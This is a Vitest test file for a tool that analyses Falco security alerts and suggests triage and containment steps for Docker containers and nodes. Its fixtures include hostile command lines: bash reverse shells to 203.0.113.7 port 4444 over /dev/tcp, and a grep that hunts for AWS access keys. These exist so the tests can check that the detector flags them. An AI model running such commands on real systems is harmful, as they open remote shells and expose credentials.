import { describe, expect, it } from "vitest";
import { checkTemplate } from "../../../src/core/analysis/advice/check-template.ts";
import { analyse } from "../../../src/core/analysis/analyse.ts";
import { type Analysis, plainText } from "../../../src/core/analysis/analysis.ts";
import { OUTSIDE_KUBERNETES } from "../../../src/core/analysis/standard-commands.ts";
import type { Alert, FieldValue } from "../../../src/core/falco/alert.ts";
import { anAlert, commandsIn, FIXTURES, fixture, PLAYBOOKS, withFields } from "./alerts.ts";

/** As Falco 0.44 reports a container that `docker run` started: the image is known, the pod's fields are empty. */
const DOCKER: Record<string, FieldValue> = {
  "container.id": "9c2e6d5ab012",
  "container.name": "quirky_hopper",
  "container.image.repository": "alpine",
  "k8s.ns.name": null,
  "k8s.pod.name": null,
};
/** As Falco reports a container of which the runtime has not told anything yet. */
const ONLY_AN_ID: Record<string, FieldValue> = {
  ...DOCKER,
  "container.name": null,
  "container.image.repository": null,
};
const ON_NODE: Record<string, FieldValue> = {
  ...DOCKER,
  "container.id": "host",
  "container.name": "host",
  "container.image.repository": "",
};

const SYSCALL_FIXTURES = FIXTURES.filter(({ alert }) => alert.source === "syscall");

describe("advice for a container that Kubernetes did not start", () => {
  it.each(SYSCALL_FIXTURES)("$name names no tool of Kubernetes", ({ alert }) => {
    const analysis = of(withFields(alert, DOCKER));

    expect(commandsIn(analysis).filter((command) => /\b(?:kubectl|crictl)\b/.test(command))).toEqual([]);
    expect(analysis.withheld.map(({ reason }) => reason).filter((reason) => reason.includes("k8s."))).toEqual([]);
  });

  it("asks Docker on the node instead", () => {
    const { triage, containment } = of(withFields(fixture("webshell"), DOCKER));
    const logs = triage.find(({ run }) => run?.startsWith("docker logs"));

    expect(logs).toMatchObject({ run: "docker logs --timestamps --tail 1000 9c2e6d5ab012", where: "node" });
    expect(containment[0]?.run).toContain("cgroup.freeze");
  });

  it("is asked about in its own words under a rule without a playbook", () => {
    const fields = { ...DOCKER, "evt.type": "openat", "fd.name": "/etc/cron.d/x", "proc.name": "sh" };
    const { triage, containment } = of(anAlert({ fields }));

    expect(triage[0]?.run).toMatch(/^docker inspect 9c2e6d5ab012/);
    expect(plainText(containment[0]?.do ?? [])).toContain("pause it");
  });

  it("still has a way to contain where all the playbook's ways are about pods", () => {
    const { containment } = of(withFields(fixture("shell-in-prod"), DOCKER));

    expect(containment.map((item) => plainText(item.do)).join()).toContain("pause it");
  });

  it.each(Object.entries(OUTSIDE_KUBERNETES))("@%s passes the checks of advice", (_, { run }) => {
    expect(checkTemplate("command", run)).toMatchObject({ ok: true });
  });
});

describe("advice for an alert that has nothing but a container's id", () => {
  it.each(["shell-in-prod", "webshell", "curl-connects"])("%s: asks for the pod first", (name) => {
    const { triage } = of(withFields(fixture(name), ONLY_AN_ID));

    expect(triage[0]?.run).toContain('--arg id "9c2e6d5ab012"');
  });
});

describe("advice for what happened on the node itself", () => {
  it.each(SYSCALL_FIXTURES)("$name names no kubectl and no container", ({ alert }) => {
    const analysis = of(withFields(alert, ON_NODE));

    expect(commandsIn(analysis).filter((command) => /\bkubectl\b/.test(command))).toEqual([]);
    expect(analysis.withheld).toEqual([]);
  });

  it("still has a way to contain", () => {
    const { containment } = of(withFields(fixture("webshell"), ON_NODE));

    expect(containment.map((item) => plainText(item.do)).join()).toContain("isolate the machine");
  });
});

describe("what is not known", () => {
  it.each([
    ["on the node", { ...ON_NODE, "container.image.repository": null }, /^(?:container|k8s)[.]/],
    ["outside Kubernetes", DOCKER, /^k8s[.]/],
  ])("is no pod and no image where there is none: %s", (_, place, absent) => {
    for (const { alert } of SYSCALL_FIXTURES) {
      const { unknown } = of(withFields(alert, place));
      expect(unknown.filter(({ missingFields }) => missingFields.every((name) => absent.test(name)))).toEqual([]);
    }
  });
});

describe("an item of a playbook that does not concern this alert", () => {
  it("is left out where the alert says so, and kept where it does not say", () => {
    const inImage = (image: FieldValue): readonly string[] =>
      of(withFields(fixture("webshell"), { "container.image.repository": image })).benignCauses.map(({ id }) => id);

    expect(inImage("docker.io/library/wordpress")).not.toContain("event-generator");
    expect(inImage("falcosecurity/event-generator")).toContain("event-generator");
    expect(inImage(null)).toContain("event-generator");
  });

  it("never asks about logins on the node for an event in a container", () => {
    const { triage } = of(fixture("loots-keys"));

    expect(triage.map((item) => plainText(item.ask)).filter((ask) => ask.startsWith("On the node"))).toEqual([]);
  });
});

describe("hardening", () => {
  it("shows no pod's manifest for what happened outside of Kubernetes", () => {
    for (const place of [DOCKER, ON_NODE]) {
      const { hardening } = of(withFields(fixture("webshell"), place));
      expect(hardening.filter(({ yaml }) => yaml !== undefined)).toEqual([]);
    }
  });
});

describe("evidence about an address", () => {
  it("quotes the address, which stands in the alert under another field's name", () => {
    const { evidence } = of(fixture("bash-reverse-shell"));
    const address = evidence.find(({ signal }) => signal === "shell-to-public-address");

    expect(address?.quotes.map(({ field }) => field)).toContain("fd.sip");
  });
});

describe("the first sentence", () => {
  it.each([
    [{ "evt.type": "openat", "evt.res": "EACCES", "fd.name": "/etc/shadow" }, "cat tried in vain to open /etc/shadow"],
    [{ "evt.type": "openat", "evt.res": "SUCCESS", "fd.name": "/etc/shadow" }, "cat opened /etc/shadow"],
    [{ "evt.type": "execve", "evt.res": "ENOENT" }, "cat tried in vain to start a program (ENOENT)"],
    [{ "evt.type": "execve", "evt.res": "SUCCESS" }, "cat ran"],
  ])("says whether it worked where the alert does: %j", (fields, says) => {
    expect(plainText(of(anAlert({ fields: { "proc.name": "cat", ...fields } })).headline)).toBe(`${says} on worker-1.`);
  });

  it("says of a rule that counts attempts only that it was tried", () => {
    expect(plainText(of(fixture("traversal-request")).headline)).toMatch(/^node tried to open \/etc\/passwd/);
  });
});

describe("a shell that has nothing to do with Falco", () => {
  it("is not explained by Falco's driver loader", () => {
    const alert = withFields(fixture("report-1"), { "proc.cmdline": "sh -c /health.sh", "proc.name": "sh" });

    expect(JSON.stringify({ ...of(alert), facts: [], hardening: [], tuning: [] })).not.toMatch(/driver-loader|lsmod/);
  });
});

describe("what is alarming under every rule", () => {
  it.each([
    { "proc.cmdline": "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" },
    { "proc.cmdline": "sh -c exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | sh" },
  ])("decides under a rule whose playbook does not think of it: %j", (fields) => {
    expect(of(withFields(fixture("shell-in-prod"), fields)).verdict.kind).toBe("likely malicious");
  });

  it("is not repeated where the playbook says it", () => {
    const { evidence } = of(fixture("fake-httpd"));

    expect(evidence.filter(({ signal }) => signal.includes("writable-path"))).toHaveLength(1);
  });

  it("is no port check and no checksum", () => {
    for (const cmdline of ["bash -c </dev/tcp/db/5432", "sh -c cat x | sha256sum"]) {
      expect(of(anAlert({ fields: { "proc.cmdline": cmdline } })).verdict.kind).toBe("needs review");
    }
  });
});

describe("a verdict", () => {
  it("never rests on what something is called", () => {
    const alert = withFields(fixture("curl-connects"), { "proc.name": "argocd-server", "proc.tty": 0 });

    expect(of(alert).verdict.kind).toBe("needs review");
  });

  it("is malicious where three things from different fields look bad, and needs review where two do", () => {
    const three = {
      "proc.cmdline": "grep -rE aws_access_key_id /root /home",
      "proc.pcmdline": "bash /tmp/aws.sh",
      "proc.cwd": "/tmp/",
    };
    const alert = withFields(fixture("scan-of-checkout"), { "container.image.repository": "redis" });

    expect(of(withFields(alert, three)).verdict.kind).toBe("likely malicious");
    expect(of(withFields(alert, { ...three, "proc.cwd": "/srv/" })).verdict.kind).toBe("needs review");
  });

  it("says that fields are missing only where one of them could decide", () => {
    const whole = of(withFields(fixture("shell-in-prod"), { "container.privileged": null }));

    expect(plainText(whole.verdict.because)).toBe(
      "the alert alone does not tell an engineer's debugging session from an attack",
    );
  });
});

function of(alert: Alert): Analysis {
  return analyse(alert, PLAYBOOKS);
}
